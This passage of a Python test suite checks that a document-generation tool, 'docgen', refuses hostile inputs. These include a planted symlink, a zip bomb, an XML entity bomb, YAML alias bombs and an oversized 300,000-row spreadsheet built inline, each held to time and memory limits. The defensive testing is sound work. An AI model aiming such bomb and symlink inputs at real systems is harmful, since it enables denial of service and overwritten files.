    (tmp_path / "docgen-error.log").symlink_to(victim)  # a planted link at the old fixed path
    logs = []
    for _ in range(2):
        code, _, err, _ = run(["build"], capsys)
        assert code == 3
        logs.append(next(p for p in tmp_path.glob("docgen-error-*.log") if p not in logs))
    assert victim.read_text(encoding="utf-8") == "không được ghi đè"
    assert len(set(logs)) == 2
    for log in logs:
        assert log.stat().st_mode & 0o777 == 0o600
        assert "ZeroDivisionError" in log.read_text(encoding="utf-8")


# -- the budget: every hostile input within 5 s and 300 MB ----------------------------------

MEASURE = """
import resource, subprocess, sys, time
start = time.monotonic()
done = subprocess.run(sys.argv[1:], capture_output=True)
secs = time.monotonic() - start
use = resource.getrusage(resource.RUSAGE_CHILDREN)
cpu = use.ru_utime + use.ru_stime
print(done.returncode, f"{secs:.2f}", f"{cpu:.2f}", f"{use.ru_maxrss / 1024:.0f}")
sys.stderr.write(done.stderr.decode("utf-8", "replace") + done.stdout.decode("utf-8", "replace"))
"""


def measured(args: list[str]) -> tuple[int, float, float, float, str]:
    """Run ``docgen args`` in a fresh process: exit code, wall and CPU seconds, peak RSS in MB,
    output. CPU time is the bound: the suite shares two cores with other work."""
    done = subprocess.run(
        [sys.executable, "-c", MEASURE, *DOCGEN, *args], capture_output=True, text=True
    )
    code, secs, cpu, rss = done.stdout.split()
    return int(code), float(secs), float(cpu), float(rss), done.stderr


def test_hostile_inputs_stay_within_5_s_and_300_mb(
    bomb_docx: Path, built_docx: Path, content_copy: Path, tmp_path: Path
) -> None:
    rules = tmp_path / "rules.yaml"
    rules.write_text(alias_bomb(), encoding="utf-8")
    laughs = entity_bomb(tmp_path / "laughs.docx", built_docx)
    plan_bomb = tmp_path / "c1"
    shutil.copytree(content_copy, plan_bomb)
    (plan_bomb / "2024" / "plan.yaml").write_text(alias_bomb(), encoding="utf-8")
    rows = tmp_path / "c2"
    shutil.copytree(content_copy, rows)
    (rows / "2024" / "scores.csv").unlink()
    _scores_xlsx(rows / "2024" / "scores.xlsx", 10_000, lying=True)
    cases = [
        (["check", str(bomb_docx)], 2, "zip bomb"),
        (["import", str(bomb_docx), "--year", "2030", "--content", str(tmp_path / "i")], 1, "zip"),
        (["import", str(laughs), "--year", "2030", "--content", str(tmp_path / "i")], 1, "DTD"),
        (["check", "--rules", str(rules), str(built_docx)], 2, "alias bomb"),
        (
            ["build", "--content", str(plan_bomb), "--out", str(tmp_path / "o"), "--no-pdf"],
            1,
            "bom",
        ),
        (["scores", "--content", str(rows), "--year", "2024"], 1, "5000"),
    ]
    for args, want, text in cases:
        code, secs, cpu, rss, output = measured(["--lang", "vi", *args])
        assert code == want, (args, output)
        assert text in output, (args, output)
        print(f"{args[0]} {text}: exit {code}, {secs:.2f} s wall, {cpu:.2f} s CPU, {rss:.0f} MB")
        assert cpu < 5 and secs < 60, (args, cpu, secs)
        assert rss < 300, (args, rss)
    assert not (tmp_path / "i").exists() and not (tmp_path / "o" / "2024").exists()


def test_messages_in_english(bomb_docx: Path, content_copy: Path, tmp_path: Path, capsys) -> None:
    code, out, _, _ = run(["--lang", "en", "check", str(bomb_docx)], capsys)
    assert code == 2 and "or a zip bomb" in out
    (content_copy / "2024" / "plan.yaml").write_text(alias_bomb(), encoding="utf-8")
    args = build_args(content_copy, tmp_path / "o")
    code, _, err, _ = run(["--lang", "en", *args], capsys)
    assert code == 1 and "an alias bomb" in err and "YAML refused" in err


def test_a_large_value_found_is_not_printed_whole(
    content_copy: Path, tmp_path: Path, capsys
) -> None:
    plan = content_copy / "2024" / "plan.yaml"
    lines = plan.read_text(encoding="utf-8").splitlines(keepends=True)
    big = "[" + ", ".join(["chữ dài " * 20] * 300) + "]"
    lines = [f"closing: {big}\n" if ln.startswith("closing:") else ln for ln in lines]
    plan.write_text("".join(lines), encoding="utf-8")
    code, _, err, _ = run(build_args(content_copy, tmp_path / "o"), capsys)
    assert code == 1 and "[closing]" in err and "bỏ bớt" in err and len(err) < 5_000


def test_a_300000_row_score_sheet(content_copy: Path, capsys) -> None:
    """The issue's case: ~10-13 MB, 300,000 rows (the sheet XML alone is over 100 MB): refused
    at once, in a handful of lines, not 300,000."""
    import re
    import zipfile

    year = content_copy / "2024"
    (year / "scores.csv").unlink()
    path = _scores_xlsx(year / "scores.xlsx", 1)
    with zipfile.ZipFile(path) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    sheet = "xl/worksheets/sheet1.xml"
    xml = parts.pop(sheet).decode("utf-8")
    row = re.search(r'<row r="2".*?</row>', xml)
    assert row
    head, tail = xml[: row.start()], xml[row.end() :]
    head = re.sub(r'<dimension ref="[^"]*"', '<dimension ref="A1:M300001"', head)
    template = row.group(0).replace('r="2"', 'r="{n}"')
    template = re.sub(r'r="([A-Z]+)2"', r'r="\g<1>{n}"', template)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        for n, data in parts.items():
            z.writestr(n, data)
        with z.open(sheet, "w", force_zip64=True) as f:
            f.write(head.encode())
            block = 1000
            for start in range(2, 300_002, block):
                f.write("".join(template.format(n=n) for n in range(start, start + block)).encode())
            f.write(tail.encode())
    assert path.stat().st_size < 20 * 1024 * 1024
    code, _, err, secs = run(["scores", "--content", str(content_copy), "--year", "2024"], capsys)
    assert code == 1 and "sheet1.xml giải nén ra" in err and "tối đa 5000 dòng" in err
    assert len(err.splitlines()) < 10 and secs < 5


@needs_soffice
def test_a_pdf_with_too_much_text_is_refused(
    built_2024: BuildResult, capsys, monkeypatch: pytest.MonkeyPatch
) -> None:
    """pdftotext runs under resource limits; over the text limit (lowered here to 1 KB, 50 MB in
    use) the PDF is "too heavy", not read into memory."""
    from docgen import limits

    pdf = built_2024.out_dir / "ke-hoach-2024.pdf"
    code, out, _, _ = run(["check", str(pdf)], capsys)
    assert "VB901" not in out
    monkeypatch.setattr(limits, "MAX_PDF_TEXT_BYTES", 1024)
    code, out, _, _ = run(["check", str(pdf)], capsys)
    assert code == 2 and "quá nhiều chữ" in out
